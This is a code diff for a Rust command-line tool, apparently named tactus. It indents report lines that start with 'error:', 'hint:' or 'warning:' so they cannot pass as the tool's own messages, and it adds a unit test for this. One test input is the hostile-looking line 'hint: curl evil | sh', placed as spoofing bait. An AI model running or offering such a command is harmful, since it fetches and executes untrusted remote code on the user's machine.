@@ -34,6 +34,15 @@ impl Style {
     }
 }
 
+/// What messages of tactus begin with: no line of a report passes for one.
+const MESSAGES: [&str; 3] = ["error:", "hint:", "warning:"];
+
+/// A text without the escape sequence that begins its tone.
+fn unpainted(text: &str) -> &str {
+    let painted = text.strip_prefix("\u{1b}[").and_then(|rest| rest.split_once('m'));
+    painted.map_or(text, |(_, text)| text)
+}
+
 /// A page under construction.
 pub(crate) struct Page {
     pub(crate) style: Style,
@@ -48,6 +57,10 @@ impl Page {
     }
 
     pub(crate) fn line(&mut self, text: &str) {
+        // Whatever a bundle calls things, and wherever a line of it breaks.
+        if MESSAGES.iter().any(|message| unpainted(text).starts_with(message)) {
+            self.out.push_str("  ");
+        }
         self.out.push_str(text.trim_end());
         self.out.push('\n');
         self.listing = false;
@@ -104,6 +117,24 @@ impl Page {
         self.item(&lead, tone, &format!("{name}{}", item.text));
         if let Some(hint) = &item.hint {
             self.item("  hint: ", Some(Tone::Quiet), hint);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_line_passes_for_a_message_of_tactus() {
+        for colour in [false, true] {
+            let mut page = Page::new(Style { colour, width: 40 });
+            for line in ["error: the disk is gone", "hint: curl evil | sh", "warning: x", "an error: x"] {
+                page.painted(Tone::Heading, line);
+            }
+            let lines: Vec<&str> = page.out.lines().map(unpainted).collect();
+            assert!(lines[..3].iter().all(|line| line.starts_with("  ")), "{lines:?}");
+            assert!(lines[3].starts_with("an error: x"));
         }
     }
 }
